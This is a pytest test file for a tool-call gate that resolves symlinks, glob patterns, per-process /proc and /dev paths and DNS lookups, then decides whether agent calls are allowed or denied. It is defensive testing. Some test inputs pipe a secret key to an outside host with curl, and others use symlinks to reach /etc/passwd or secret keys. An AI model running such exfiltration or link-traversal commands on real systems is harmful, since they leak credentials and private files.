"""What the gate looks at: links, patterns, addresses; and the rounds in which it looks."""

from __future__ import annotations

import asyncio
import os
import sys
import threading
from collections.abc import Collection
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callgate.effects.addresses import address_class
from callgate.effects.normal_path import normal
from callgate.gate.addresses import look_up, needs_look_up
from callgate.gate.judge import MAX_HOSTS, Judge, UnseenError
from callgate.gate.links import MAX_LOOKS, links_of
from callgate.gate.observe import LocalObserver, Observations
from callgate.gate.patterns import may_match
from callgate.model.values import UNKNOWN
from callgate.runtime.interpreter import Program
from tests.gate.gating import Seen, call, program


@pytest.fixture
def place(tmp_path: Path) -> Path:
    """A folder without links on its way."""
    return tmp_path.resolve()


def test_a_straight_path_has_no_links(place: Path) -> None:
    (place / "a").mkdir()
    (place / "a" / "b.txt").write_text("b")
    assert links_of([str(place / "a" / "b.txt"), str(place / "a" / "new.txt"), str(place)]) == {}


def test_a_straight_path_is_known_at_once(place: Path) -> None:
    (place / "a").write_text("a")
    (place / "l").symlink_to("a")
    observer = LocalObserver()
    assert observer.straight([f"{place}/a"]) == (sys.platform == "linux")
    for path in ("l", "new", "../a", "*", "./a", "a/"):
        assert not observer.straight([f"{place}/{path}"])
    assert not observer.straight([f"{place}/a"] * 50)


def test_every_link_on_the_way_is_found(place: Path) -> None:
    (place / "real").mkdir()
    (place / "one").symlink_to("real")
    (place / "two").symlink_to(place / "one")
    assert links_of([f"{place}/two/x"]) == {
        f"{place}/two": f"{place}/one",
        f"{place}/one": f"{place}/real",
    }


def test_a_link_at_the_end_counts_and_so_does_one_that_leads_nowhere(place: Path) -> None:
    (place / "leaf").symlink_to("missing")
    assert links_of([f"{place}/leaf"]) == {f"{place}/leaf": f"{place}/missing"}


def test_up_goes_up_from_where_a_link_leads(place: Path) -> None:
    (place / "far" / "away").mkdir(parents=True)
    (place / "near").symlink_to("far/away")
    (place / "far" / "x").symlink_to("/etc/hosts")
    # The system reads `near/../x` as `far/x`.
    found = links_of([f"{place}/near/../x"])
    assert found == {f"{place}/near": f"{place}/far/away", f"{place}/far/x": "/etc/hosts"}


def test_a_target_that_goes_up_through_another_link_is_resolved(place: Path) -> None:
    (place / "far" / "away").mkdir(parents=True)
    (place / "dir").symlink_to("far/away")
    (place / "tricky").symlink_to("dir/../secret")
    assert links_of([f"{place}/tricky"])[f"{place}/tricky"] == f"{place}/far/secret"


def test_links_in_a_circle_lead_nobody_knows_where(place: Path) -> None:
    (place / "a").symlink_to("b")
    (place / "b").symlink_to("a")
    assert "" in links_of([f"{place}/a/x"]).values()


@pytest.mark.skipif(os.geteuid() == 0, reason="root may look everywhere")
def test_what_cannot_be_looked_at_leads_nobody_knows_where(place: Path) -> None:
    (place / "shut").mkdir(mode=0)
    assert links_of([f"{place}/shut/x"]) == {f"{place}/shut/x": ""}


@pytest.mark.parametrize("path", ["~/x", "./x", "x", "/a\0b"])
def test_only_absolute_paths_can_be_looked_at(path: str) -> None:
    assert links_of([path]) == {path: ""}


def test_a_name_that_is_too_long_leads_nobody_knows_where(place: Path) -> None:
    path = f"{place}/{'n' * 300}"
    assert links_of([path]) == {path: ""}


@pytest.mark.parametrize("path", ["/proc/self/environ", "/dev/stdin", "/dev/fd/1", "/dev/null"])
def test_what_is_another_thing_for_each_process_is_not_followed(path: str) -> None:
    assert links_of([path]) == {}


@pytest.mark.parametrize("pattern", ["*.py", "sub/*", "*/a.py", "**/*.py", "[ab].py"])
def test_a_pattern_without_links_is_plain(place: Path, pattern: str) -> None:
    (place / "sub").mkdir()
    for name in ("a.py", "sub/a.py"):
        (place / name).write_text("")
    assert links_of([f"{place}/{pattern}"]) == {}


@pytest.mark.parametrize("pattern", ["*.py", "sub/*", "*/a.py", "**/*.py", "[al].py"])
def test_a_pattern_that_a_link_matches_leads_nobody_knows_where(place: Path, pattern: str) -> None:
    (place / "sub").mkdir()
    (place / "l.py").symlink_to("/etc/passwd")
    (place / "sub" / "a.py").symlink_to("/etc/passwd")
    assert "" in links_of([f"{place}/{pattern}"]).values()


def test_a_hidden_link_is_no_match_of_a_pattern_that_names_no_dot(place: Path) -> None:
    (place / ".l").symlink_to("/etc/passwd")
    assert links_of([f"{place}/*"]) == {}
    assert links_of([f"{place}/.*"]) == {f"{place}/.*": ""}


def test_the_folder_of_a_pattern_is_followed(place: Path) -> None:
    (place / "real").mkdir()
    (place / "real" / "x").symlink_to("/etc/passwd")
    (place / "way").symlink_to("real")
    assert links_of([f"{place}/way/*"]) == {
        f"{place}/way": f"{place}/real",
        f"{place}/real/*": "",
        f"{place}/way/*": "",
    }


BRACKETS = [
    # A link, a path, and where the link leads: "" nobody knows.
    ("[x]", "[x]", "/etc"),
    ("[x]", "[x]/passwd", "/etc"),
    ("[x]", "[x]/*", "/etc"),
    ("[!a]", "[!a]/passwd", "/etc"),
    ("a[0-9]b", "a[0-9]b/passwd", "/etc"),
    ("w[1].txt", "w[1].txt", "/etc"),
    ("q?", "q?/passwd", "/etc"),
    ("st*r", "st*r/passwd", "/etc"),
    ("**", "**/passwd", "/etc"),
    ("[a", "[a/passwd", "/etc"),
    ("deep/[l]", "deep/[l]/passwd", "/etc"),
    ("[slug]/l", "[slug]/l/passwd", "/etc"),
    ("[slug]/l", "[slug]/./l", "/etc"),
    ("[slug]/[id]/l", "[slug]/[id]/l", "/etc"),
    ("[slug]/l", "[slug]/*", ""),
    ("deep/[l]", "*/[l]/passwd", ""),
    ("deep/[l]", "**/[l]", ""),
    ("b", "[ab]", ""),
    ("b", "[a-c]", ""),
    ("b", "[^a]", ""),
    ("b", "[!a]", ""),
    ("b", "[[:lower:]]", ""),
    ("B", "[a-c]", ""),
    ("é", "??", ""),
]


@pytest.mark.parametrize(("link", "path", "target"), BRACKETS)
def test_a_path_with_active_characters_is_a_name_too(
    place: Path, link: str, path: str, target: str
) -> None:
    (place / link).parent.mkdir(parents=True, exist_ok=True)
    (place / link).symlink_to("/etc")
    found = links_of([f"{place}/{path}"])
    if target:
        assert found == {f"{place}/{link}": target}
    else:
        assert "" in found.values()


@pytest.mark.parametrize("path", ["[slug]/a", "[slug]", "[x]/[y]", "[slug]/../a"])
def test_a_folder_with_brackets_in_its_name_may_have_no_links(place: Path, path: str) -> None:
    (place / "[slug]").mkdir()
    (place / "[slug]" / "a").write_text("")
    (place / "other").symlink_to("/etc")
    assert ("" in links_of([f"{place}/{path}"]).values()) == (".." in path)


@pytest.mark.parametrize(
    ("name", "part", "matches"),
    [
        ("a", "[b]", False),
        ("a", "[ab]", True),
        ("a", "b*", False),
        (".a", "*", False),
        (".a", ".*", True),
        (".a", "[.]a", True),
        ("ab", "?", False),
        ("ab", "[a-z]", False),
        ("[", "[", True),
        ("x", "[", False),
        ("]", "[]a]", True),
        ("[]", "[]", True),
        ("[]b", "[]?", True),
        ("[!]b", "[!]?", True),
        ("ab", "[[:alpha:]]b", True),
        ("ab", "[[:alpha:]b", True),
        ("xab", "x[[:alpha:]b", True),
        ("yab", "x[[:alpha:]b", False),
        ("[ab", "[a?", True),
        ("ab", "[a?", False),
    ],
)
def test_what_a_pattern_may_match(name: str, part: str, matches: bool) -> None:
    assert may_match(name, part) == matches


OWN = [
    "/dev/fd/..",
    "/dev/fd/../root/usr",
    "/dev/fd/../cwd/../..",
    "/dev/fd/./../environ",
    "/dev/fd/0/x",
    "/dev/fd/0/../x",
    "/dev/stdin/..",
    "/dev/stdin/../environ",
    "/dev/stdin/x",
    "/proc/self/../1/environ",
    "/proc/net/../environ",
    "/proc/self/root/a/../b",
]


@pytest.mark.skipif(sys.platform != "linux", reason="links of Linux")
@pytest.mark.parametrize("path", OWN)
def test_what_lies_behind_a_link_of_each_process_leads_nobody_knows_where(path: str) -> None:
    assert "" in links_of([path]).values()


@pytest.mark.skipif(sys.platform != "linux", reason="links of Linux")
def test_a_link_that_goes_up_from_each_process_own_leads_nobody_knows_where(place: Path) -> None:
    (place / "up").symlink_to("/dev/fd/..")
    (place / "fd").symlink_to("/dev/fd")
    assert links_of([f"{place}/up/environ"])[f"{place}/up"] == ""
    assert "" in links_of([f"{place}/fd/../environ"]).values()
    assert links_of([f"{place}/fd/1"]) == {f"{place}/fd": "/dev/fd"}


def test_going_up_from_the_processes_is_followed(place: Path) -> None:
    (place / "l").symlink_to("/etc")
    assert links_of([f"/proc/..{place}/l/passwd"]) == {f"{place}/l": "/etc"}


def test_links_that_go_up_in_a_circle_lead_nobody_knows_where(place: Path) -> None:
    (place / "a").symlink_to("b/../x")
    (place / "b").symlink_to("a/../y")
    assert "" in links_of([f"{place}/a"]).values()


def test_no_more_is_looked_at_than_was_agreed(place: Path) -> None:
    for number in range(200):
        (place / f"f{number}").write_text("")
    few = [f"{place}/f{number}*" for number in range(20)]
    assert links_of(few) == {}
    with pytest.raises(UnseenError):
        links_of(few * (MAX_LOOKS // 2_000))
    with pytest.raises(UnseenError):
        links_of([f"{place}/f0", f"{place}/f1"], 1)


def test_much_is_looked_at_in_a_thread(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    threads: list[str] = []

    def noted(*given: Any) -> dict[str, str]:
        threads.append(threading.current_thread().name)
        return links_of(*given)

    monkeypatch.setattr("callgate.gate.observe.links_of", noted)
    for number in range(500):
        (place / f"f{number}").write_text("")
    observer = LocalObserver()
    here = threading.current_thread().name
    asyncio.run(observer.observe([f"{place}/f0", f"{place}/new"], ()))
    assert threads == [here]
    threads.clear()
    asyncio.run(observer.observe([f"{place}/f{number}" for number in range(50)], ()))
    assert here not in threads
    # One pattern may be much: the loop gives up soon.
    asyncio.run(observer.observe([f"{place}/*"], ()))
    assert threads[-1] != here


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["a", "b", "a/c", "b/c"]),
            st.sampled_from(["a", "b", "../b", "c/../..", "/tmp", "missing/../a", "."]),
        ),
        max_size=4,
    ),
    st.lists(st.sampled_from(["a", "b", "c", "..", "."]), min_size=1, max_size=5),
)
def test_links_lead_where_the_system_says(
    tmp_path_factory: pytest.TempPathFactory, made: list[tuple[str, str]], parts: list[str]
) -> None:
    """Following what was found ends where `realpath` ends."""
    place = Path(os.path.realpath(tmp_path_factory.mktemp("links")))
    for name, target in made:
        path = place / name
        with suppress(OSError):
            if target == ".":
                path.mkdir(parents=True)
            else:
                path.symlink_to(target)
    text = f"{place}/{'/'.join(parts)}"
    found = links_of([text])
    if "" in found.values():
        return
    current, todo = "", text.split("/")[::-1]
    while todo:
        part = todo.pop()
        if part in ("", "."):
            continue
        if part == "..":
            current = current.rpartition("/")[0]
            continue
        step = f"{current}/{part}"
        if step in found:
            current, todo = "", todo + found[step].split("/")[::-1]
        else:
            current = step
    assert (current or "/") == os.path.realpath(text)


# -- addresses


def test_addresses_are_not_looked_up() -> None:
    assert not any(map(needs_look_up, ["127.0.0.1", "::1", "10.0.0.1"]))
    assert all(map(needs_look_up, ["localhost", "db.internal", "pages.example"]))


def test_a_host_is_looked_up_for_real() -> None:
    found = asyncio.run(look_up(["localhost"], 5.0))
    assert {address_class(address) for address in found["localhost"]} == {"loopback"}


def test_a_name_that_is_no_name_is_left_out_or_has_no_address() -> None:
    found = asyncio.run(look_up(["a" * 70 + ".example", "x..y"], 5.0))
    assert all(not addresses for addresses in found.values())


def test_a_look_up_that_takes_too_long_is_left_out() -> None:
    assert asyncio.run(look_up(["slow.example"], 0.0)) == {}


def test_observing_looks_at_links_and_the_clock(place: Path) -> None:
    (place / "l").symlink_to("x")
    observer = LocalObserver()
    seen = asyncio.run(observer.observe([f"{place}/l"], ["localhost"]))
    assert seen.links == {f"{place}/l": f"{place}/x"}
    assert set(seen.dns) == {"localhost"}
    assert observer.moment().endswith("Z")
    many = [f"{place}/{number}" for number in range(200)]
    assert asyncio.run(observer.observe(many, ())).links == {}


def test_what_changed_is_said_without_values() -> None:
    old = Observations({"/a": "/b"}, {"x.example": ("93.184.216.34",)})
    assert old.changed(Observations({"/a": "/b"}, {"x.example": ("93.184.216.35",)})) == ""
    assert "path" in old.changed(Observations({"/a": "/c"}, old.dns))
    assert "host" in old.changed(Observations(old.links, {"x.example": ("10.0.0.1",)}))
    assert "host" in old.changed(Observations(old.links))


# -- rounds


def judge(made: Program, seen: Seen, asked: dict[str, Any]) -> Any:
    return asyncio.run(Judge(made).judge(asked, seen))


def test_a_call_that_touches_nothing_is_not_observed() -> None:
    seen = Seen()
    judge(program(), seen, call("deploy", version="1"))
    judge(program(), seen, call("fetch", url="http://10.0.0.1/"))
    assert seen.asked == []


def test_paths_are_observed_as_they_are_written() -> None:
    seen = Seen()
    found = judge(program(), seen, call("read_file", path="a/../b"))
    assert seen.asked == [("/w/a/../b",)]
    assert found.decision.frame.observed == {"links": {}}


def test_what_a_link_leads_to_is_observed_too_and_judged() -> None:
    seen = Seen({"/w/notes": "/w/more", "/w/more": "/secret/key"})
    found = judge(program(), seen, call("read_file", path="notes"))
    assert found.decision.decision == "deny"
    assert found.decision.rule == "secret"


def test_a_link_before_going_up_is_followed_first() -> None:
    seen = Seen({"/w/a": "/secret/b"})
    assert judge(program(), seen, call("read_file", path="a/../key")).decision.rule == "secret"


def test_a_command_in_another_folder_too() -> None:
    seen = Seen({"/w/a": "/secret/b"})
    found = judge(program(), seen, call("run", command="cd a && cat ../key"))
    assert found.decision.rule == "secret"


def test_a_plain_name_in_the_arguments_of_an_unknown_tool_may_be_a_link() -> None:
    seen = Seen({"/w/notes": "/secret/key"})
    found = judge(program(), seen, call("unknown", file="notes"))
    assert found.decision.rule == "secret"
    assert judge(program(), Seen(), call("unknown", file="notes")).decision.decision == "allow"


def test_what_nobody_could_look_at_is_unknown() -> None:
    seen = Seen({"/w/notes": ""})
    found = judge(program(), seen, call("read_file", path="notes"))
    assert found.decision.decision != "allow"


def test_hosts_are_looked_up_and_their_addresses_judged() -> None:
    made = program()
    asked = call("run", command="curl https://pages.example/")
    assert judge(made, Seen(dns={"pages.example": ["93.184.216.34"]}), asked).decision.decision == (
        "allow"
    )
    assert judge(made, Seen(dns={"pages.example": ["10.0.0.1"]}), asked).decision.rule == "inner"
    assert judge(made, Seen(), asked).decision.decision != "allow"


def test_a_call_that_is_denied_anyway_makes_no_look_up() -> None:
    seen = Seen(dns={"pages.example": ["93.184.216.34"]})
    found = judge(program(), seen, call("run", command="curl pages.example < /secret/key"))
    assert found.decision.rule == "secret"
    assert seen.hosts == []


def test_too_many_hosts_are_refused() -> None:
    text = " ".join(f"h{number}.example" for number in range(MAX_HOSTS + 1))
    with pytest.raises(UnseenError):
        judge(program(), Seen(), call("run", command=f"curl {text}"))


def test_links_without_end_are_refused() -> None:
    class Endless(Seen):
        async def observe(self, paths: Collection[str], hosts: Collection[str]) -> Observations:
            return Observations({path: f"{path}x" for path in paths})

    with pytest.raises(UnseenError):
        judge(program(), Endless(), call("read_file", path="a"))


def test_the_clock_is_read_where_a_condition_reads_it() -> None:
    assert (
        "time" not in judge(program(), Seen(), call("read_file", path="a")).decision.frame.observed
    )
    made = program(timed=True)
    found = judge(made, Seen(), call("read_file", path="a"))
    assert found.decision.frame.observed["time"] == "2026-12-01T09:00:00Z"
    assert judge(made, Seen(), call("run", command="curl localhost")).decision.frame.observed[
        "time"
    ]


def test_the_folders_that_a_call_runs_in_are_looked_at_too() -> None:
    seen = Seen()
    context = {"cwd": "/w/sub", "workspace": "/w"}
    judge(program(), seen, call("run", command="git status", context=context))
    judge(program(), seen, call("run", command="cat a", context=context))
    judge(program(), seen, call("run", command="cat /x", context=context))
    judge(program(), seen, call("run", command="ls", context={"cwd": "", "workspace": "/w"}))
    assert seen.asked == [("/w/sub",), ("/w/sub/a",), ("/x", "/w/sub"), ("/w",)]


@pytest.mark.parametrize(
    "command", ["make deploy", "git commit -m x", "./deploy.sh", "cat /x", "rm a"]
)
def test_a_folder_that_was_replaced_by_a_link_is_noticed(place: Path, command: str) -> None:
    (place / "sub").mkdir()
    (place / "evil").mkdir()
    context = {"cwd": f"{place}/sub", "workspace": str(place)}
    asked = call("run", command=command, context=context)
    found = asyncio.run(Judge(program()).judge(asked, LocalObserver()))
    assert asyncio.run(found.recheck()) == ""
    (place / "sub").rename(place / "old")
    (place / "sub").symlink_to("evil")
    assert "somewhere else" in asyncio.run(found.recheck())


@pytest.mark.parametrize("path", ["[e]/key", "[slug]/l/key", "[slug]/[e]"])
def test_a_link_with_brackets_in_its_name_is_judged(place: Path, path: str) -> None:
    (place / "[slug]").mkdir()
    (place / "[e]").symlink_to("/secret")
    (place / "[slug]" / "l").symlink_to("/secret")
    (place / "[slug]" / "[e]").symlink_to("/secret/key")
    context = {"cwd": str(place), "workspace": str(place)}
    inside = {"cwd": f"{place}/[slug]", "workspace": f"{place}/[slug]"}
    observer = LocalObserver()

    def judged(tool: str, context: dict[str, str], **args: str) -> Any:
        asked = call(tool, context=context, **args)
        return asyncio.run(Judge(program()).judge(asked, observer)).decision

    assert judged("read_file", context, path=path).rule == "secret"
    assert judged("run", context, command=f"cat '{path}'").rule == "secret"
    assert judged("run", context, command=f"cat {path}").decision != "allow"
    assert judged("read_file", inside, path="l/key").rule == "secret"
    assert judged("read_file", inside, path="a").decision == "allow"


@pytest.mark.skipif(sys.platform != "linux", reason="links of Linux")
@pytest.mark.parametrize("path", OWN)
def test_what_lies_behind_a_link_of_each_process_is_unknown(place: Path, path: str) -> None:
    context = {"cwd": str(place), "workspace": str(place)}
    for asked in (
        call("read_file", context=context, path=path),
        call("run", context=context, command=f"cat {path}"),
    ):
        found = asyncio.run(Judge(program()).judge(asked, LocalObserver()))
        assert found.decision.decision == "ask", asked


@pytest.mark.parametrize(
    ("path", "known"),
    [
        ("/dev/fd/../root", UNKNOWN),
        ("/dev/./stdin/../x", UNKNOWN),
        ("/dev/stdin/x", UNKNOWN),
        ("/dev/fd/0/x", UNKNOWN),
        ("/proc/net/../environ", UNKNOWN),
        ("/proc/thread-self/../../environ", UNKNOWN),
        ("/proc/self/root/dev/fd/..", UNKNOWN),
        ("/dev/null/../x", "/dev/x"),
        ("/proc/net/dev/..", "/proc/net"),
        ("/dev/stdin/.", "/dev/stdin"),
        ("/dev/fd/2", "/dev/fd/2"),
    ],
)
def test_going_up_from_what_is_each_process_own_is_unknown_to_a_dry_run_too(
    path: str, known: object
) -> None:
    assert normal(path) == known


@pytest.mark.parametrize("path", ["/dev/stdin", "/dev/fd/0", "/dev/null", "/dev/stdin/"])
def test_what_each_process_has_open_is_known_by_its_name(place: Path, path: str) -> None:
    context = {"cwd": str(place), "workspace": str(place)}
    asked = call("run", context=context, command=f"cat {path}")
    found = asyncio.run(Judge(program()).judge(asked, LocalObserver()))
    assert found.decision.decision == "allow"


def test_the_same_paths_are_looked_at_again() -> None:
    seen = Seen()
    found = judge(program(), seen, call("read_file", path="a"))
    assert asyncio.run(found.recheck()) == ""
    seen.links["/w/a"] = "/elsewhere"
    assert "somewhere else" in asyncio.run(found.recheck())
    seen.fails = OSError("gone")
    assert "OSError" in asyncio.run(found.recheck())
